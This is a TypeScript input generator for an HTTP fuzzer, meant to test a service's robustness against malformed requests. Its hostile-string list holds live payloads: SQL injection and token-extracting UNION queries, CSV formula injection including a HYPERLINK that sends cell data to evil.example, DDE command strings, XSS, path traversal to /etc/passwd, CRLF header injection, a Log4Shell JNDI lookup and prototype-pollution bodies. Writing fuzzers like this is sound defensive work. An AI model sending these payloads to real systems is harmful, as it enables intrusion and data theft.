/**
 * Malformed and hostile request parts for the HTTP fuzzer, drawn from a seeded random source
 * so that a failing run can be replayed with its seed.
 */

export class Picker {
  constructor(readonly random: () => number) {}
  int(max: number): number {
    return Math.floor(this.random() * max);
  }
  one<T>(items: readonly T[]): T {
    return items[this.int(items.length)]!;
  }
  chance(p: number): boolean {
    return this.random() < p;
  }
}

/** Strings that have broken SQL, CSV, HTML, paths, logs and parsers elsewhere. */
export const HOSTILE_STRINGS = [
  "'; DROP TABLE events; --",
  "' OR '1'='1",
  '" OR ""="',
  "1; SELECT * FROM tenants --",
  "x' UNION SELECT token_hash FROM admin_tokens --",
  '$$; COPY events TO \'/tmp/x.csv\'; $$',
  "ATTACH '/tmp/evil.db' AS evil",
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '=cmd|\' /C calc\'!A0',
  '+SUM(1+1)*cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)',
  '\t=1+1',
  '<script>alert(1)</script>',
  '"><svg onload=alert(1)>',
  'javascript:alert(1)',
  '{{7*7}}${7*7}<%= 7*7 %>',
  '../../../../etc/passwd',
  '..%2f..%2f..%2fetc%2fpasswd',
  '....//....//etc/passwd',
  '/v1/../../admin',
  'C:\\Windows\\win.ini',
  '%00',
  'a\u0000b',
  'line\r\nX-Injected: yes',
  '\u2028\u2029',
  '\ufeff',
  '\u202e\u0644\u0627',
  '😀👩‍👩‍👧‍👦',
  'ＡＢＣ',
  '__proto__',
  'constructor',
  'prototype',
  '${jndi:ldap://evil.example/a}',
  'a'.repeat(129),
  'NaN',
  'Infinity',
  '-0',
  '',
  ' ',
];

export const HUGE_NUMBERS = ['1e400', '-1e400', '9007199254740993', '123456789012345678901234567890', '-0', '0.0000000000000000000001', '1e-400', '4.9e-324', '1.7976931348623157e308'];

/** Bodies that are not JSON, or JSON that parsers disagree about. */
export function badJsonBodies(pick: Picker): string {
  const choices = [
    () => '{',
    () => '{"event": "broadcast.joined",}',
    () => "{'single': 'quotes'}",
    () => '{"a": NaN}',
    () => '{"a": undefined}',
    () => '[1, 2,]',
    () => '{"a": 1} trailing',
    () => '"just a string"',
    () => 'null',
    () => 'true',
    () => '12',
    () => '[]',
    () => '',
    () => ' ',
    () => '\u0000',
    () => '{"__proto__": {"admin": true}}',
    () => '{"constructor": {"prototype": {"admin": true}}}',
    () => `{"a": ${pick.one(HUGE_NUMBERS)}}`,
    () => `${'['.repeat(5_000)}${']'.repeat(5_000)}`,
    () => `${'{"a":'.repeat(3_000)}1${'}'.repeat(3_000)}`,
    () => `{"a": "${'x'.repeat(200_000)}"}`,
    () => `{"events": [${Array.from({ length: 600 }, () => '{}').join(',')}]}`,
    () => '{"a": "\\ud800"}',
    () => '{"a": "\\udfff\\ud800"}',
    () => '{"a": "\\u0000"}',
    () => '{"a": "\\x41"}',
    () => '{"a":1,"a":2}',
    () => '\ufeff{"a":1}',
  ];
  return pick.one(choices)();
}

/** Byte sequences that are not valid UTF-8. */
export const INVALID_UTF8: Buffer[] = [
  Buffer.from([0xff, 0xfe, 0xfd]),
  Buffer.from([0xc0, 0xaf]), // overlong "/"
  Buffer.from([0xe0, 0x80, 0xaf]),
  Buffer.from([0xed, 0xa0, 0x80]), // a surrogate encoded
  Buffer.from([0xf8, 0x88, 0x80, 0x80, 0x80]),
  Buffer.from([0x80]),
  Buffer.from([0xc3]),
];

/** A JSON body with invalid UTF-8 inside a string, or as the whole body. */
export function invalidUtf8Body(pick: Picker): Buffer {
  const bad = pick.one(INVALID_UTF8);
  return pick.chance(0.5) ? bad : Buffer.concat([Buffer.from('{"event":"poll.viewed","data":{"pollId":"'), bad, Buffer.from('"}}')]);
}

/** A value of the wrong type, or an extreme value of the right one. */
export function wrongValue(pick: Picker): unknown {
  return pick.one<() => unknown>([
    () => null,
    () => true,
    () => 0,
    () => -1,
    () => 1e308,
    () => -1e308,
    () => Number.MAX_SAFE_INTEGER + 2,
    () => 0.5,
    () => [],
    () => [pick.one(HOSTILE_STRINGS)],
    () => ({}),
    () => ({ $gt: '' }),
    () => pick.one(HOSTILE_STRINGS),
    () => 'x'.repeat(pick.one([1_001, 10_000, 40_000])),
    () => nested(pick.int(200) + 40),
  ])();
}

function nested(depth: number): unknown {
  let value: unknown = 'deep';
  for (let i = 0; i < depth; i++) value = i % 2 ? [value] : { a: value };
  return value;
}

/** One of the given valid bodies with one field removed, retyped, or made hostile, or extra fields added. */
export function mutateBody(pick: Picker, body: Record<string, unknown>): Record<string, unknown> {
  const copy: Record<string, unknown> = structuredClone(body);
  const keys = Object.keys(copy);
  const roll = pick.int(6);
  const key = keys.length ? pick.one(keys) : 'x';
  if (roll === 0) delete copy[key];
  else if (roll === 1) copy[key] = wrongValue(pick);
  else if (roll === 2) copy[key] = pick.one(HOSTILE_STRINGS);
  else if (roll === 3) copy[pick.one(HOSTILE_STRINGS) || 'empty'] = pick.one(HOSTILE_STRINGS);
  else if (roll === 4 && copy.data && typeof copy.data === 'object') (copy.data as Record<string, unknown>)[pick.one(['pollId', 'questionText', 'productId', 'quantity', 'x'])] = wrongValue(pick);
  else copy.__proto__extra = { polluted: true };
  return copy;
}

/** Header values that abuse length, encoding and meaning. */
export function hostileHeaders(pick: Picker): Record<string, string> {
  const headers: Record<string, string> = {};
  const count = pick.int(3);
  for (let i = 0; i < count; i++) {
    const [name, value] = pick.one<() => [string, string]>([
      () => ['x-request-id', pick.one(['../../x', 'a'.repeat(500), '<script>', 'ok-id-1', '\u00e9t\u00e9'.normalize('NFD').replace(/[^\x20-\x7e]/g, '?')])],
      () => ['accept', pick.one(['text/csv', 'application/x-ndjson', 'application/json', '*/*', 'text/html', 'image/png', 'garbage;;;q=x', 'application/json;q=0, text/csv;q=0'])],
      () => ['accept-encoding', pick.one(['gzip', 'br', 'deflate', 'identity;q=0', 'gzip;q=abc', 'x'.repeat(1_000)])],
      () => ['if-none-match', pick.one(['*', '"x"', 'W/"abc", "def"', 'x'.repeat(2_000)])],
      () => ['cookie', pick.one(['svc_session=', 'svc_session=../../etc', 'svc_session=a; svc_session=b', `svc_session=${'A'.repeat(4_000)}`, 'a=b;;;=;'])],
      () => ['origin', pick.one(['https://evil.example', 'null', 'file://', 'x'.repeat(300)])],
      () => ['x-forwarded-for', pick.one(['127.0.0.1', '1.2.3.4, 5.6.7.8', 'not-an-ip', '::1'])],
      () => ['cf-ipcountry', pick.one(['DE', 'xx', "' OR 1=1", ''])],
      () => ['x-svc-api-key', pick.one(['', 'svc_pk_', `svc_pk_${'0'.repeat(32)}`, "' OR 1=1 --", 'x'.repeat(8_000)])],
      () => ['authorization', pick.one(['Bearer', 'Bearer ', 'Bearer a b', `Bearer ${'x'.repeat(8_000)}`, 'Basic Og==', 'Digest x', "Bearer ' OR 1=1 --"])],
      () => ['range', 'bytes=0-1,2-3'],
      () => ['expect', '100-continue'],
    ])();
    headers[name] = value;
  }
  return headers;
}

/** A path segment or query value: hostile, huge, or percent-encoding gone wrong. */
export function hostileSegment(pick: Picker): string {
  return pick.one<() => string>([
    () => encodeURIComponent(pick.one(HOSTILE_STRINGS)),
    () => pick.one(['%', '%zz', '%E0%A4%A', '%C0%AF', '%FF', '%00', '%2e%2e', '..', '.', '%252e']),
    () => 'x'.repeat(pick.one([101, 1_000, 4_000])),
    () => String(pick.one(HUGE_NUMBERS)),
    () => encodeURIComponent(`svc_sk_${'x'.repeat(32)}`),
    () => pick.one(['1', '0', '-1', 'ak_1', 'null', 'undefined']),
  ])();
}
